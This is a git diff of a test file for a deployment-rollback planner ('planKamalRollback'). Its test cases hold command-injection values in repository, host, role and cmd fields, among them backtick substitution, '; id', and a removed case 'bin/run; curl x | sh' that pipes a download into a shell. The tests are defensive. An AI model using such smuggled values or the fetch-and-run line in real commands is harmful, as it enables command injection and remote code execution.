@@ -223,7 +223,6 @@ describe('planKamalRollback', () => {
         { repository: 'bars/app`id`' },
         { roles: [role('web', ['web-1 ; id'])] },
         { roles: [role('web;x', ['web-1'])], primaryRole: 'web;x' },
-        { roles: [role('web', ['web-1'], { cmd: 'bin/run; curl x | sh' })] },
         { roles: [role('web', ['web-1'], { env: { clear: { 'X=1 Y': 'v' }, secret: [] } })] },
       ];
       for (const override of cases) {
